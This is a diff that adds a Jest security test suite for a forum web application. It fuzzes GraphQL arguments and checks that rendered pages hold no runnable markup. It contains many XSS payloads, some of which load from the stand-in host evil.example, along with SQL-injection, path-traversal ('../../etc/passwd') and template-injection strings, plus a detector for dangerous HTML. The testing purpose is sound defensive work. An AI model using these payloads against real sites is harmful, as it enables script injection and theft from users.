@@ -1,0 +1,324 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import { gunzipSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
+import { GraphQLSchemaHost } from '@nestjs/graphql';
+import { FORUM_LIMITS, type Board } from '@kundig/forum/server';
+import { JSDOM } from 'jsdom';
+import { Browser } from '../support/browser.js';
+import { fillWithCast, type Cast } from '../support/cast.js';
+import { TestCommunity } from '../support/community.js';
+import { outcomeOf, rootFieldsOf, type RootField } from '../support/operations.js';
+import { inParallel, sized } from '../support/security-size.js';
+import { WebProcess } from '../support/web-process.js';
+import { randomUUID } from 'node:crypto';
+
+jest.setTimeout(600_000);
+
+let community: TestCommunity;
+let web: WebProcess;
+let cast: Cast;
+let fields: RootField[];
+beforeAll(async () => {
+  community = await TestCommunity.start();
+  web = await WebProcess.start(community);
+  cast = await fillWithCast(community, web, 1);
+  fields = rootFieldsOf(web.get(GraphQLSchemaHost).schema).filter(
+    ({ name }) => !['signOut', 'exportFaq'].includes(name),
+  );
+});
+afterAll(async () => {
+  Browser.closeAll();
+  await web?.close();
+  await community?.close();
+});
+
+const dataSets = process.env.DATA_SETS ?? resolve(import.meta.dirname, '../../../shared/data');
+const naughtyFile = resolve(dataSets, 'attack-strings/blns.json');
+const payloadFile = resolve(dataSets, 'attack-strings/xss-payloads-dev.txt.gz');
+
+/** @returns the variables with one value replaced by another */
+function withValue(
+  variables: Record<string, unknown>,
+  [name, ...rest]: readonly string[],
+  value: unknown,
+): Record<string, unknown> {
+  if (rest.length === 0) return { ...variables, [name!]: value };
+  return {
+    ...variables,
+    [name!]: withValue({ ...(variables[name!] as Record<string, unknown>) }, rest, value),
+  };
+}
+
+/** Calls every argument of a type with every value as the administrator. @returns what ended as a defect, or took long */
+async function tortured(
+  types: readonly string[],
+  values: readonly unknown[],
+): Promise<{ calls: number; wrong: string[] }> {
+  const ids = {
+    boardId: cast.open.publicId,
+    threadId: cast.question.publicId,
+    postId: cast.anonymousReply.publicId,
+  };
+  const calls = fields.flatMap((field) =>
+    field.scalars
+      .filter(({ type }) => types.includes(type))
+      .flatMap(({ path }) => values.map((value) => ({ field, path, value }))),
+  );
+  const wrong = await inParallel(calls, async ({ field, path, value }) => {
+    const variables = withValue(field.variables(ids), path, value);
+    const from = performance.now();
+    const { status, text } = await cast.browsers.administrator.operation({
+      query: field.document,
+      variables,
+    });
+    const milliseconds = performance.now() - from;
+    const outcome = status === 413 ? 'too large' : outcomeOf(field.name, JSON.parse(text));
+    const bad = status >= 500 || outcome === 'INTERNAL_SERVER_ERROR' || milliseconds > 5_000;
+    const shown = JSON.stringify(value)?.slice(0, 40);
+    return bad
+      ? [`${field.name} ${path.join('.')} = ${shown}: ${status} ${outcome} in ${milliseconds.toFixed()} ms`]
+      : [];
+  });
+  return { calls: calls.length, wrong: wrong.flat() };
+}
+
+describe('every argument (V2.2.1, V1.4.2)', () => {
+  it('takes a text of any size, or refuses it', async () => {
+    const sizes = [0, 1, 10, 100, 1_000, 10_000, 100_000, 1_000_000];
+    const { calls, wrong } = await tortured(
+      ['String', 'ID'],
+      sizes.map((size) => 'ä'.repeat(size)),
+    );
+    expect(wrong).toEqual([]);
+    expect(calls).toBeGreaterThan(400);
+  });
+
+  it('takes any number, or refuses it', async () => {
+    const numbers = [
+      0,
+      -1,
+      1,
+      50,
+      51,
+      1_000_000,
+      2 ** 31 - 1,
+      -(2 ** 31),
+      2 ** 31,
+      2 ** 53,
+      1.5,
+      -0,
+      1e308,
+      '1',
+      null,
+    ];
+    expect((await tortured(['Int', 'Float'], numbers)).wrong).toEqual([]);
+  });
+
+  it('takes any characters, or refuses them', async () => {
+    const own = [
+      '\u0000',
+      'a\u0000b',
+      '\ud800',
+      '\udfff\ud800',
+      '﷽',
+      '\u202eabc',
+      '\u200b\u200d\ufeff',
+      'Z\u0351\u036b\u0343A',
+      '%',
+      '_',
+      '%s%n',
+      "' OR 1=1 --",
+      '"; DROP TABLE x',
+      '\\',
+      '$1',
+      '{{7*7}}',
+      '${7*7}',
+      '../../etc/passwd',
+      '&amp;lt;',
+      '%253Cscript',
+      'e\u0301'.repeat(50),
+      '👩‍👩‍👧‍👦',
+    ];
+    expect((await tortured(['String', 'ID'], own)).wrong).toEqual([]);
+  });
+
+  const naughty = existsSync(naughtyFile) ? it : it.skip;
+  naughty('takes the naughty strings, or refuses them (skipped where the data sets are not)', async () => {
+    const all = JSON.parse(readFileSync(naughtyFile, 'utf8')) as string[];
+    const strings = all.filter((_, index) => index % sized(50, 1) === 0);
+    expect((await tortured(['String', 'ID'], strings)).wrong).toEqual([]);
+  });
+});
+
+/** Ways in which markup becomes a program, ours; the data sets hold thousands more. */
+const OWN_PAYLOADS = [
+  ...[
+    '<script>alert(1)</script>',
+    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+    '</script><script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+  ],
+  ...[
+    '<svg/onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<math href="javascript:alert(1)">x</math>',
+    '<iframe srcdoc="<script>alert(1)</script>">',
+  ],
+  ...[
+    '<a href="javascript:alert(1)">x</a>',
+    '[x](javascript:alert(1))',
+    '[x](JaVa\tScRiPt:alert(1))',
+    '[x](&#106;avascript:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+  ],
+  ...[
+    '![x](https://evil.example/track.gif)',
+    '![x](//evil.example/track.gif)',
+    '<img src="https://evil.example/x.png">',
+    '<video poster=//evil.example/x>',
+    '<link rel=stylesheet href=//evil.example>',
+  ],
+  ...[
+    '<style>@import "//evil.example"</style>',
+    '<div style="background:url(//evil.example)">',
+    '<base href="//evil.example/">',
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    '<form action=//evil.example><input name=q>',
+  ],
+  ...[
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<template><script>alert(1)</script></template>',
+    '<textarea autofocus onfocus=alert(1)>',
+    '<details open ontoggle=alert(1)>',
+    '"><img src=x onerror=alert(1)>',
+  ],
+  ...[
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    '{{constructor.constructor("alert(1)")()}}',
+    '<!--><script>alert(1)</script>-->',
+    '<x onclick=alert(1)>',
+    '`<script>`',
+    '```html\n<script>alert(1)</script>\n```',
+  ],
+  ...[
+    '<https://evil.example/"onmouseover="alert(1)>',
+    '[x]: javascript:alert(1)\n[x]',
+    '[a](<javascript:alert(1)>)',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '\u0000<script\u0000>alert(1)</script>',
+    '<object data=//evil.example>',
+    '<embed src=//evil.example>',
+  ],
+];
+
+function payloads(): string[] {
+  if (!existsSync(payloadFile)) return OWN_PAYLOADS;
+  const lines = gunzipSync(readFileSync(payloadFile)).toString().split('\n').filter(Boolean);
+  const step = Math.ceil(lines.length / sized(24, lines.length));
+  return [...OWN_PAYLOADS, ...lines.filter((_, index) => index % step === 0)];
+}
+
+/** @returns everything in a document that could run, load or lead to a program of somebody else */
+function dangersIn(html: string): string[] {
+  const { document } = new JSDOM(html).window;
+  const dangers: string[] = [];
+  for (const element of document.querySelectorAll('*')) {
+    const name = element.localName;
+    const inert = /json/.test(element.getAttribute('type') ?? '');
+    const own = inert || (element.getAttribute('src') ?? '').startsWith('/assets/');
+    if (name === 'script' && !own && !isColourScheme(element.textContent))
+      dangers.push(`script: ${element.outerHTML.slice(0, 80)}`);
+    if (['iframe', 'object', 'embed', 'base', 'style', 'applet', 'frame'].includes(name))
+      dangers.push(`<${name}>`);
+    if (name === 'meta' && element.hasAttribute('http-equiv')) dangers.push('meta refresh');
+    for (const { name: attribute, value } of element.attributes) {
+      const target = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
+      if (attribute.startsWith('on')) dangers.push(`${name} ${attribute}`);
+      if (attribute === 'style' || attribute === 'srcdoc') dangers.push(`${name} ${attribute}`);
+      if (/^(javascript|vbscript|data):/.test(target) && !target.startsWith('data:image/'))
+        dangers.push(`${name} ${attribute}=${value.slice(0, 40)}`);
+      const loads =
+        ['src', 'srcset', 'poster', 'data', 'background', 'action', 'formaction', 'xlink:href'].includes(
+          attribute,
+        ) ||
+        (name === 'link' && attribute === 'href' && element.getAttribute('rel') === 'stylesheet');
+      if (loads && /^(https?:)?\/\//.test(target)) dangers.push(`${name} ${attribute}=${value.slice(0, 60)}`);
+    }
+  }
+  return dangers;
+}
+
+let schemeScript: string | undefined;
+/** The one inline script of ours is the one that stands on a page without anybody's text, too. */
+const isColourScheme = (text: string): boolean => text === schemeScript;
+
+describe('what people write (V1.2.1, V1.3.1, advisory 33)', () => {
+  let board: Board;
+  beforeAll(async () => {
+    board = await community.board();
+    schemeScript = /<script(?: nonce="[^"]+")?>([^<]+)<\/script>/.exec(
+      (await web.visitor().get('/imprint')).text,
+    )?.[1];
+  });
+
+  it('is found when it runs, so that the search below means something', () => {
+    for (const html of [
+      '<script>x</script>',
+      '<p onclick=x>',
+      '<a href="java\tscript:x">',
+      '<img src=//evil.example/x>',
+      '<style>x</style>',
+      '<svg><a xlink:href="javascript:x"/></svg>',
+    ])
+      expect({ html, found: dangersIn(html).length > 0 }).toEqual({ html, found: true });
+  });
+
+  it('never becomes a program: title, text, tags, draft, preview, search and nickname', async () => {
+    const { member } = cast.browsers;
+    const query = `mutation ($input: StartThreadInput!) { startThread(input: $input) { __typename ... on StartThreadSuccess { thread { id path } } } }`;
+    const results = await inParallel(payloads(), async (payload) => {
+      const title = `Titel ${payload}`.slice(0, FORUM_LIMITS.titleMax);
+      const input = {
+        boardId: board.publicId,
+        kind: 'QUESTION',
+        title,
+        body: `Text\n\n${payload}\n\n> ${payload}\n\n- ${payload}`,
+        clientKey: randomUUID(),
+      };
+      const { data } = await member.graphql<{ startThread: { thread?: { path: string } } }>(query, { input });
+      const path = data?.startThread.thread?.path;
+      const pages = [
+        ...(path ? [path] : []),
+        `/search?q=${encodeURIComponent(payload.slice(0, 150))}`,
+        `/tag/${encodeURIComponent(payload.slice(0, 60))}`,
+        `/u/${encodeURIComponent(payload.slice(0, 60))}`,
+      ];
+      const dangers: string[] = [];
+      for (const page of pages) {
+        const { text, status, headers } = await web.visitor().get(page);
+        if (status >= 500) dangers.push(`${status} ${page.slice(0, 30)}`);
+        if (String(headers['content-type']).startsWith('text/html'))
+          dangers.push(...dangersIn(text).map((danger) => `${page.slice(0, 8)} ${danger}`));
+      }
+      const refused = await member.form('/form/startThread', {
+        _page: '/ask',
+        title: payload.slice(0, 5),
+        body: payload,
+        tags: payload,
+      });
+      return [...dangers, ...dangersIn(refused.text).map((danger) => `form ${danger}`)].map((danger) => ({
+        payload,
+        danger,
+      }));
+    });
+    expect(results.flat()).toEqual([]);
+    expect(results.length).toBeGreaterThanOrEqual(OWN_PAYLOADS.length);
+    const stored = await community.owner.query<{ body_html: string }[]>('SELECT body_html FROM forum.post');
+    expect(stored.flatMap(({ body_html }) => dangersIn(body_html))).toEqual([]);
+    for (const path of [`/b/${board.slug}/${board.publicId}`, '/', '/en'])
+      for (const browser of [web.visitor(), member])
+        expect(dangersIn((await browser.get(path)).text)).toEqual([]);
+  });
+});
